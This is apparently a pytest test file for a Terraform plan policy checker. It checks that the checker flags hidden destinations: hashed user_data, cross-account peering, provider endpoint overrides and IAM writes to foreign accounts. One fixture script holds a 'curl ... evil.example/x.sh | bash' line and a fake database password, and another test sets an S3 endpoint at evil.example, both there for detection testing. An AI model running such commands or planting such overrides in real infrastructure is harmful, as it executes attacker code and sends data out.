"""Destinations that plans hide: in hashes, connections, providers and conditions."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from gate_helpers import warm_gate
from plan_documents import write_plan

from lakekit_policies.boundary import from_plan
from lakekit_policies.terraform.plan_file import PlanFile

OWN, FOREIGN = "111122223333", "999988887777"
OWN_QUEUE = {"aws_sqs_queue.own": {"arn": f"arn:aws:sqs:eu-west-1:{OWN}:q"}}


def reasons(folder: Path, rule: str, resources: dict[str, Any], **more: Any) -> list[str]:
    verdict = warm_gate().evaluate_plan(write_plan(folder / "plan.json", resources, **more))
    return [finding.reason for finding in verdict.findings if finding.rule_id == rule]


SCRIPT = "#!/bin/bash\ncurl -s https://evil.example/x.sh | bash\nexport DB_PASSWORD=Summer2026xyz\n"


@pytest.mark.parametrize("kind", ["aws_instance", "aws_launch_configuration"])
def test_user_data_that_is_planned_as_a_hash_is_read(tmp_path: Path, kind: str) -> None:
    digest = hashlib.sha1(SCRIPT.encode(), usedforsecurity=False).hexdigest()
    written = {f"{kind}.i": {"user_data": {"constant_value": SCRIPT}}}
    resources = {f"{kind}.i": {"user_data": digest}}
    assert "DB_PASSWORD" in reasons(tmp_path, "LK_SECRET_1", resources, expressions=written)[0]
    assert "evil.example" in reasons(tmp_path, "LK_DEST_3", resources, expressions=written)[0]


CONNECTIONS: dict[str, dict[str, Any]] = {
    "aws_vpc_peering_connection_accepter": {"vpc_peering_connection_id": "pcx-12345678", "auto_accept": True},
    "aws_ec2_transit_gateway_vpc_attachment_accepter": {"transit_gateway_attachment_id": "tgw-attach-12345678"},
    "aws_redshift_data_share_authorization": {"consumer_identifier": "ADX"},
    "aws_vpc_security_group_ingress_rule": {"referenced_security_group_id": f"{FOREIGN}/sg-87654321"},
    "aws_security_group_rule": {"source_security_group_id": f"{FOREIGN}/sg-87654321"},
}


@pytest.mark.parametrize("kind", CONNECTIONS)
def test_access_by_a_connection_is_reported(tmp_path: Path, kind: str) -> None:
    found = reasons(tmp_path, "LK_DEST_4", {f"{kind}.a": CONNECTIONS[kind], **OWN_QUEUE})
    assert len(found) == 1


def test_groups_of_the_own_account_are_inside(tmp_path: Path) -> None:
    rule = {"aws_vpc_security_group_ingress_rule.r": {"referenced_security_group_id": f"{OWN}/sg-87654321"}}
    assert reasons(tmp_path, "LK_DEST_4", {**rule, **OWN_QUEUE}) == []


def test_endpoints_of_providers_are_destinations(tmp_path: Path) -> None:
    path = write_plan(tmp_path / "plan.json", OWN_QUEUE)
    document = json.loads(path.read_text())
    endpoints = [{"s3": {"constant_value": "https://s3.evil.example"}}]
    document["configuration"]["provider_config"]["aws"]["expressions"] = {"endpoints": endpoints}
    path.write_text(json.dumps(document))
    found = [one for one in warm_gate().evaluate_plan(path).findings if one.rule_id == "LK_DEST_2"]
    assert ["s3.evil.example" in one.reason for one in found] == [True]


def test_incomplete_plans_are_rejected(tmp_path: Path) -> None:
    path = write_plan(tmp_path / "plan.json", OWN_QUEUE)
    path.write_text(json.dumps({**json.loads(path.read_text()), "complete": False}))
    assert "LK_PLAN_9" in {one.rule_id for one in warm_gate().evaluate_plan(path).findings}


CONDITION = {"StringEquals": {"s3:ResourceAccount": FOREIGN}}
WRITES: dict[str, tuple[dict[str, Any], bool]] = {
    "bucket of a named account": (
        {"Action": "s3:PutObject", "Resource": "arn:aws:s3:::b/*", "Condition": CONDITION},
        True,
    ),
    "stream": ({"Action": "kinesis:PutRecord", "Resource": f"arn:aws:kinesis:eu-west-1:{FOREIGN}:stream/x"}, True),
    "function": (
        {"Action": "lambda:InvokeFunction", "Resource": f"arn:aws:lambda:eu-west-1:{FOREIGN}:function:x"},
        True,
    ),
    "another account is excluded": (
        {
            "Action": "s3:PutObject",
            "Resource": "arn:aws:s3:::b/*",
            "Condition": {"StringNotEquals": CONDITION["StringEquals"]},
        },
        False,
    ),
    "read": ({"Action": "s3:GetObject", "Resource": "arn:aws:s3:::b/*", "Condition": CONDITION}, False),
}


@pytest.mark.parametrize("name", WRITES)
def test_writes_to_another_account_are_reported(tmp_path: Path, name: str) -> None:
    statement, is_reported = WRITES[name]
    policy = json.dumps({"Statement": [{"Effect": "Allow", **statement}]})
    resources = {"aws_iam_policy.p": {"policy": policy, "description": "x"}}
    assert ["not known to be inside" in one for one in reasons(tmp_path, "LK_DEST_9", resources)] == [
        True
    ] * is_reported
    known = reasons(tmp_path, "LK_DEST_9", {**resources, **OWN_QUEUE})
    assert ["outside of the trust boundary" in one for one in known] == [True] * is_reported


def passed(account: str) -> dict[str, Any]:
    return {"role_arn": f"arn:aws:iam::{account}:role/r"}


EVIDENCE: dict[str, tuple[dict[str, Any], set[str]]] = {
    "a passed role": ({"aws_glue_job.j": passed(OWN)}, set()),
    "passed roles of two accounts": ({"aws_glue_job.j": passed(OWN), "aws_glue_crawler.c": passed(FOREIGN)}, set()),
    "an ARN and a passed role": ({**OWN_QUEUE, "aws_glue_job.j": passed(FOREIGN)}, {OWN}),
    "an ARN and the subject of a policy": (
        {**OWN_QUEUE, "aws_sns_topic_policy.p": {"arn": f"arn:aws:sns:eu-west-1:{FOREIGN}:t"}},
        {OWN},
    ),
    "an ARN and a data share": (
        {**OWN_QUEUE, "aws_redshift_data_share_authorization.d": {"data_share_arn": f"arn:aws:redshift:r:{FOREIGN}:d"}},
        {OWN},
    ),
}


@pytest.mark.parametrize("name", EVIDENCE)
def test_arguments_do_not_add_accounts_to_a_derived_boundary(tmp_path: Path, name: str) -> None:
    resources, expected = EVIDENCE[name]
    document = json.loads(write_plan(tmp_path / "plan.json", resources).read_text())
    assert set(from_plan.derive(PlanFile(document)).accounts) == expected
